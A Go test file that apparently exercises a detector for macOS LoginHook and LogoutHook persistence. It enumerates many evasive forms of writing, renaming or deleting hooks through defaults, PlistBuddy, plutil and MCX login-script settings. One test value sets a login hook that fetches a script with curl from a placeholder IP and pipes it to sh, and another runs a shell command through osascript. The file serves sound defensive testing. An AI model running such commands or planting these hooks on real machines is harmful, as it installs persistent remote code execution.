package agent

import "strings"

// otherCommands set, hide and remove hooks in every form that the tools take.
func otherCommands() []attack {
	var all []attack
	for _, list := range [][]attack{values(), places(), wholeDomains(), verbs(), buddyForms(), plutilForms(), mcx()} {
		all = append(all, list...)
	}
	return all
}

// values are the forms of a value.
func values() []attack {
	var all []attack
	for _, kind := range []string{
		"string", "data", "int", "integer", "float", "bool", "boolean", "date", "array", "array-add", "dict", "dict-add",
	} {
		all = append(all, attack{"value of type " + kind, write(loginwindow, "LoginHook", "-"+kind, implant).play, []told{tellsLogin(implant)}})
	}
	for _, v := range []struct{ name, given, want string }{
		{"a program with arguments", "/bin/sh -c 'curl -s http://198.51.100.7/a | sh'", "/bin/sh -c 'curl -s http://198.51.100.7/a | sh'"},
		{"AppleScript", `/usr/bin/osascript -e "do shell script \"id\""`, `/usr/bin/osascript -e "do shell script \"id\""`},
		{"a path with spaces", "/Users/Shared/My Tools/a b.sh", "/Users/Shared/My Tools/a b.sh"},
		{"not ASCII", "/Users/Shared/ünïcödé ☃ 😀.sh", "/Users/Shared/ünïcödé ☃ 😀.sh"},
		{"an old-style string", `"/Users/Shared/a b.sh"`, "/Users/Shared/a b.sh"},
		{"an escaped old-style string", `"\U002fUsers\U002fShared\U002fx"`, "/Users/Shared/x"},
		{"an XML string", "<string>/Users/Shared/x&amp;y</string>", "/Users/Shared/x&y"},
		{"like an option", "-x", "-x"},
		{"bytes that are no text", "/Users/Shared/\xff\xfe.sh", "/Users/Shared/\ufffd\ufffd.sh"},
	} {
		all = append(all, attack{"value: " + v.name, write(loginwindow, "LoginHook", v.given).play, []told{tellsLogin(v.want)}})
	}
	return append(all,
		attack{"value split by a shell", write(loginwindow, "LoginHook", "/Users/Shared/My", "Tools/a", "b.sh").play, []told{tellsLogin("/Users/Shared/My Tools/a b.sh")}},
		attack{"typed value split by a shell", write(loginwindow, "LogoutHook", "-string", "/Users/Shared/My", "Tools/a.sh").play, []told{tellsLogout("/Users/Shared/My Tools/a.sh")}},
		attack{"no value", write(loginwindow, "LoginHook").play, []told{tellsLogin("").withoutValue()}},
		attack{"type without a value", write(loginwindow, "LoginHook", "-string").play, []told{tellsLogin("").withoutValue()}},
		attack{"key in lower case", write(loginwindow, "loginhook", implant).play, []told{tellsLogin(implant).spelled("loginhook")}},
		attack{"key in upper case", write(loginwindow, "LOGOUTHOOK", implant).play, []told{tellsLogout(implant).spelled("LOGOUTHOOK")}},
		attack{"value: an empty string removes", write(loginwindow, "LoginHook", "").play, []told{tellsRemoved("LoginHook")}},
		attack{"value: white space removes", write(loginwindow, "LogoutHook", "-string", " \t").play, []told{tellsRemoved("LogoutHook")}},
		attack{"verb in upper case", defaults("WRITE", loginwindow, "LoginHook", implant).play, []told{tellsLogin(implant)}},
	)
}

// places are the ways to name a domain.
func places() []attack {
	const managed = "/Library/Managed Preferences" + plistName
	const global = rootFolder + "/.GlobalPreferences.plist"
	const uuid = "5EED5EED-0000-4000-8000-0123456789AB"
	var all []attack
	for _, p := range []struct{ domain, cwd, plist, scope string }{
		{"/Library/Preferences/com.apple.loginwindow", "/", systemPrefs, "system"},
		{systemPrefs, "/", systemPrefs, "system"},
		{"/LIBRARY/preferences/COM.apple.LOGINWINDOW.plist", "/", systemPrefs, "system"},
		{"/var/root/Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"/private/var/root/Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{rootPrefs, "/", rootPrefs, "root"},
		{"/System/Volumes/Data/Library/Preferences/com.apple.loginwindow", "/", systemPrefs, "system"},
		{"/System/Volumes/Data/private/var/root/Library/Preferences/com.apple.loginwindow.plist", "/", rootPrefs, "root"},
		{"//var//root///Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"/Library/Preferences/../../var/root/Library/./Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"/Users/sam/../../var/root/Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"./com.apple.loginwindow", "/Library/Preferences", systemPrefs, "system"},
		{"com.apple.loginwindow.plist", "/private/var/root/Library/Preferences", rootPrefs, "root"},
		{"../Preferences/com.apple.loginwindow", "/System/Volumes/Data/Library/Preferences", systemPrefs, "system"},
		{"../../../Library/Preferences/com.apple.loginwindow", "/Users/sam/src", systemPrefs, "system"},
		{"~/Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"~root/Library/Preferences/com.apple.loginwindow", "/", rootPrefs, "root"},
		{"~sam/Library/Preferences/com.apple.loginwindow", "/", userPrefs, "user"},
		{"/Users/sam/Library/Preferences/com.apple.loginwindow", "/", userPrefs, "user"},
		{"/Library/Managed Preferences/com.apple.loginwindow", "/", managed, "managed"},
		{"/private/var/root/Library/Preferences/ByHost/com.apple.loginwindow." + uuid, "/", rootFolder + "/ByHost/com.apple.loginwindow." + uuid + ".plist", "byhost"},
		{"/tmp/com.apple.loginwindow", "/", "/private/tmp" + plistName, "other"},
		{"COM.APPLE.LoginWindow", "/", rootPrefs, "root"},
		{"NSGlobalDomain", "/", global, "global"},
		{"-g", "/", global, "global"},
		{"-globalDomain", "/", global, "global"},
		{"Apple Global Domain", "/", global, "global"},
		{"/Library/Preferences/.GlobalPreferences", "/", "/Library/Preferences/.GlobalPreferences.plist", "global"},
		{"/.vol/16777233/4711", "/", "/.vol/16777233/4711", "other"},
	} {
		all = append(all, attack{
			strings.TrimSuffix("domain "+p.domain+" in "+p.cwd, " in /"), write(p.domain, "LoginHook", implant).in(p.cwd).play,
			[]told{tellsLogin(implant).of(p.plist, p.scope)},
		})
	}
	return append(all,
		attack{"user: tilde", write("~/Library/Preferences/com.apple.loginwindow", "LoginHook", implant).asUser().play, []told{tellsLogin(implant).ofUser()}},
		attack{"user: without HOME", write(loginwindow, "LoginHook", implant).asUser().env("PATH=/usr/bin").play, []told{tellsLogin(implant).of("", "user")}},
		attack{"-app loginwindow", write("-app", "loginwindow", "LoginHook", implant).play, []told{tellsLogin(implant)}},
		attack{"-app by path", write("-app", "/System/Library/CoreServices/loginwindow.app", "LogoutHook", implant).play, []told{tellsLogout(implant)}},
		attack{"-currentHost", defaults("-currentHost", "write", loginwindow, "LoginHook", implant).play, []told{tellsLogin(implant).of("", "byhost")}},
		attack{"-currentHost behind the verb", write("-currentHost", loginwindow, "LoginHook", implant).play, []told{tellsLogin(implant).of("", "byhost")}},
		attack{"-host", defaults("-host", "mac7", "write", loginwindow, "LoginHook", implant).play, []told{tellsLogin(implant).of("", "byhost")}},
		attack{"-currentHost of all domains", defaults("-currentHost", "write", "-g", "LoginHook", implant).play, []told{tellsLogin(implant).of("", "byhost")}},
		attack{"-container", defaults("-container", "com.example.app", "write", loginwindow, "LoginHook", implant).play, []told{tellsLogin(implant).of("", "other")}},
		attack{"another domain", write("com.example.app", "LoginHook", implant).play, []told{tellsLogin(implant).of(rootFolder+"/com.example.app.plist", "root")}},
		attack{"another file", write("/tmp/x", "LogoutHook", implant).play, []told{tellsLogout(implant).of("/private/tmp/x.plist", "other")}},
	)
}

// wholeDomains are writes of all keys at once.
func wholeDomains() []attack {
	login, logout := []told{tellsLogin("/x y")}, []told{tellsLogout("/x y")}
	both := []told{tellsLogin("/a"), tellsLogout("/b")}
	var all []attack
	for _, d := range []struct {
		name, dict string
		want       []told
	}{
		{"old style", `{LoginHook="/x y";}`, login},
		{"old style, both keys", `{LoginHook="/a";LogoutHook="/b";}`, both},
		{"old style, both keys among others", `{ Foo = (1, 2); "LogoutHook" = "/b"; Bar = {LoginHook = no;}; 'LoginHook' = '/a'; }`, both},
		{"old style, escaped key", `{"Login\U0048ook" = "/x y";}`, login},
		{"old style, octal key", `{"Login\110ook" = "/x y";}`, login},
		{"old style, comments", "/* { */ {LoginHook /* = */ = // x\n \"/x y\";}", login},
		{"old style, no braces", `LoginHook = "/x y";`, login},
		{"old style, spread over lines", "{\n\tloginhook\n=\n\"/x y\"\n;\n}\n", []told{tellsLogin("/x y").spelled("loginhook")}},
		{"XML", `<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>LogoutHook</key><string>/x y</string></dict></plist>`, logout},
		{"XML, both keys", `<dict><key>LoginHook</key><string>/a</string><key>LogoutHook</key><string>/b</string></dict>`, both},
		{"XML, key with an entity", `<plist><dict><key>Login&#72;ook</key><string>/x y</string></dict></plist>`, login},
		{"XML, CDATA", `<dict><key><![CDATA[LoginHook]]></key><string><![CDATA[/x y]]></string></dict>`, login},
		{"hook that is no string", `{LoginHook=("/x");}`, []told{tellsLogin("").withoutValue()}},
		{"all hooks gone", `{Foo="LoginHook";}`, []told{tellsRemoved("")}},
		{"empty", `{}`, []told{tellsRemoved("")}},
		{"broken", `{LoginHook="/x`, []told{tellsEdit("")}},
		{"broken XML", `<dict><key>LoginHook</key>`, []told{tellsEdit("")}},
		{"too deep", strings.Repeat("{a=", 2000), []told{tellsEdit("")}},
	} {
		all = append(all, attack{"whole domain: " + d.name, write(loginwindow, d.dict).play, d.want})
	}
	return append(all, attack{"whole domain of the system, both keys", write(systemPrefs, `{LoginHook="/a";LogoutHook="/b";}`).play,
		[]told{both[0].ofSystem(), both[1].ofSystem()}})
}

// verbs are what else defaults can do to a hook.
func verbs() []attack {
	const file = "/private/tmp/a.plist"
	return []attack{
		{"rename", defaults("rename", loginwindow, "Foo", "LoginHook").play, []told{tellsRename("LoginHook", "Foo")}},
		{"rename in any case", defaults("Rename", loginwindow, "Foo", "logouthook").play, []told{tellsRename("logouthook", "Foo")}},
		{"rename in the system's", defaults("rename", "/Library/Preferences/com.apple.loginwindow", "Foo", "LoginHook").play, []told{tellsRename("LoginHook", "Foo").ofSystem()}},
		{"rename away", defaults("rename", loginwindow, "LoginHook", "Foo").play, []told{tellsRemoved("LoginHook")}},
		{"rename of one hook to the other", defaults("rename", loginwindow, "LoginHook", "LogoutHook").play, []told{tellsRemoved("LoginHook"), tellsRename("LogoutHook", "LoginHook")}},
		{"import of a file", defaults("import", loginwindow, file).play, []told{tellsImport(file)}},
		{"import of a relative file", defaults("import", loginwindow, "a.plist").in("/private/tmp").play, []told{tellsImport(file)}},
		{"import of standard input", defaults("import", loginwindow, "-").play, []told{tellsImport("-")}},
		{"import to the system's", defaults("import", systemPrefs, "-").play, []told{tellsImport("-").ofSystem()}},
		{"import of the user's", defaults("import", loginwindow, "/tmp/a.plist").asUser().play, []told{tellsImport(file).ofUser()}},
		{"export over the hooks", defaults("export", "com.example.app", rootPrefs).play, []told{tellsImport(rootFolder + "/com.example.app.plist")}},
		{"delete of a hook", defaults("delete", loginwindow, "LogoutHook").play, []told{tellsRemoved("LogoutHook")}},
		{"delete of both hooks", defaults("delete", loginwindow, "LoginHook", "LogoutHook").play, []told{tellsRemoved("LoginHook"), tellsRemoved("LogoutHook")}},
		{"delete of the domain", defaults("delete", loginwindow).play, []told{tellsRemoved("")}},
		{"delete of everything", defaults("delete").play, []told{tellsRemoved("")}},
		{"delete of an admin's hook by path", defaults("delete", "/Library/Preferences/com.apple.loginwindow", "LoginHook").play, []told{tellsRemoved("LoginHook").ofSystem()}},
		{"delete-all", defaults("delete-all", loginwindow).play, []told{tellsRemoved("")}},
		{"delete-all of a hook", defaults("delete-all", loginwindow, "LoginHook").play, []told{tellsRemoved("LoginHook")}},
	}
}

func mcx() []attack {
	return []attack{
		{"MCX login scripts", write(loginwindow, "EnableMCXLoginScripts", "-bool", "TRUE").play, []told{tellsMCX("EnableMCXLoginScripts", "TRUE")}},
		{"MCX login scripts, any case", write(loginwindow, "enablemcxloginscripts", "1").play, []told{tellsMCX("enablemcxloginscripts", "1")}},
		{"MCX login scripts, whole domain", write(loginwindow, "<dict><key>EnableMCXLoginScripts</key><true/></dict>").play, []told{tellsMCX("EnableMCXLoginScripts", "true")}},
		{"MCX login scripts by PlistBuddy", buddyCommands(rootPrefs, "Add :EnableMCXLoginScripts bool true").play, []told{tellsMCX("EnableMCXLoginScripts", "true")}},
		{"MCX login scripts by plutil", plutil("-replace", "EnableMCXLoginScripts", "-bool", "YES", systemPrefs).play, []told{tellsMCX("EnableMCXLoginScripts", "YES").ofSystem()}},
		{"MCX trust", write(loginwindow, "MCXScriptTrust", "-string", "Anonymous").play, []told{tellsMCX("MCXScriptTrust", "Anonymous")}},
		{"MCX trust and a hook", write(loginwindow, `{MCXScriptTrust=Anonymous; LoginHook="/x";}`).play, []told{tellsLogin("/x"), tellsMCX("MCXScriptTrust", "Anonymous")}},
	}
}

func buddyForms() []attack {
	const file = "/private/tmp/a.plist"
	login := tellsLogin("/x y")
	var all []attack
	for _, b := range []struct {
		command string
		want    told
	}{
		{"Add :LoginHook string /x y", login},
		{"add LoginHook string '/x y'", login},
		{`Add ":LoginHook" string "/x y"`, login},
		{`+ :Login\Hook string "/x y"`, login},
		{"Set :LoginHook /x y", login},
		{"= LoginHook /x\\ y", login},
		{"Set :LoginHook:0 /x", tellsEdit("LoginHook").with("/x")},
		{"Delete :LoginHook", tellsRemoved("LoginHook")},
		{"rm LogoutHook", tellsRemoved("LogoutHook")},
		{"Clear dict", tellsRemoved("")},
		{"Merge /tmp/a.plist", tellsImport(file)},
		{`Merge "/tmp/a.plist" :`, tellsImport(file)},
		{"Merge /tmp/a.plist :LoginHook", tellsEdit("LoginHook").from(file)},
		{"Import :LoginHook /tmp/a.plist", login.withoutValue().from(file)},
		{"Import : /tmp/a.plist", tellsImport(file)},
		{"Copy :Foo :LoginHook", tellsRename("LoginHook", "Foo")},
		{"cp Foo:Bar LogoutHook", tellsRename("LogoutHook", "Foo:Bar")},
	} {
		all = append(all, attack{"PlistBuddy -c " + b.command, buddyCommands(rootPrefs, b.command).play, []told{b.want}})
	}
	return append(all,
		attack{"PlistBuddy, commands on standard input", buddy(rootPrefs).play, []told{tellsEdit("")}},
		attack{"PlistBuddy -x, commands on standard input", buddy("-x", systemPrefs).play, []told{tellsEdit("").ofSystem()}},
		attack{"PlistBuddy, several commands", buddyCommands(rootPrefs, "Print", "Delete :LoginHook", "Add :LoginHook string /x y", "Save").play, []told{tellsRemoved("LoginHook"), login}},
		attack{"PlistBuddy, file first", buddy(rootPrefs, "-xc", "Add :LoginHook string /x y").play, []told{login}},
		attack{"PlistBuddy, firmlink", buddyCommands("/System/Volumes/Data"+systemPrefs, "Add :LoginHook string /x y").play, []told{login.ofSystem()}},
		attack{"PlistBuddy, relative file", buddyCommands("com.apple.loginwindow.plist", "Add :LoginHook string /x y").in("/private/var/root/Library/Preferences").play, []told{login}},
		attack{"PlistBuddy by absolute path", run("/usr/libexec/PlistBuddy", "-c", "Set LogoutHook /x", userPrefs).asUser().play, []told{tellsLogout("/x").ofUser()}},
	)
}

func plutilForms() []attack {
	const file = "/private/tmp/a.plist"
	login := tellsLogin("/x y")
	return []attack{
		{"plutil -insert", plutil("-insert", "LoginHook", "-string", "/x y", rootPrefs).play, []told{login}},
		{"plutil -replace", plutil("-replace", "LogoutHook", "-string", "/x", systemPrefs).play, []told{tellsLogout("/x").ofSystem()}},
		{"plutil -replace, JSON", plutil("-replace", "LoginHook", "-json", `"\/x\u0020y"`, rootPrefs).play, []told{login}},
		{"plutil -replace, XML", plutil("-replace", "LoginHook", "-xml", "<string>/x y</string>", rootPrefs).play, []told{login}},
		{"plutil -replace, any case", plutil("-REPLACE", "loginHOOK", "-STRING", "/x y", "/library/preferences/com.apple.LoginWindow.PLIST").play, []told{login.spelled("loginHOOK").ofSystem()}},
		{"plutil -replace of two files", plutil("-replace", "LoginHook", "-string", "/x y", rootPrefs, systemPrefs).play, []told{login, login.ofSystem()}},
		{"plutil -replace from another file", plutil("-replace", "LoginHook", "-string", "/x y", "-o", rootPrefs, "/tmp/a.plist").play, []told{login.from(file), tellsImport(file)}},
		{"plutil -remove", plutil("-remove", "LoginHook", rootPrefs).play, []told{tellsRemoved("LoginHook")}},
		{"plutil -convert over the hooks", plutil("-convert", "binary1", "-o", rootPrefs, "/tmp/a.plist").play, []told{tellsImport(file)}},
		{"plutil -convert from standard input", plutil("-convert", "xml1", "-o", rootPrefs, "-").play, []told{tellsImport("-")}},
		{"plutil -extract over the hooks", plutil("-extract", "a", "xml1", "-o", rootPrefs, "/tmp/a.plist").play, []told{tellsImport(file)}},
		{"plutil -convert by extension", plutil("-convert", "xml1", "-e", "plist", "/Library/Preferences/com.apple.loginwindow.new").play, []told{tellsImport("/Library/Preferences/com.apple.loginwindow.new").ofSystem()}},
		{"plutil -create", plutil("-create", "xml1", rootPrefs).play, []told{tellsRemoved("")}},
		{"plutil in the folder", plutil("-insert", "LoginHook", "-string", "/x y", "com.apple.loginwindow.plist").in(rootFolder).play, []told{login}},
	}
}
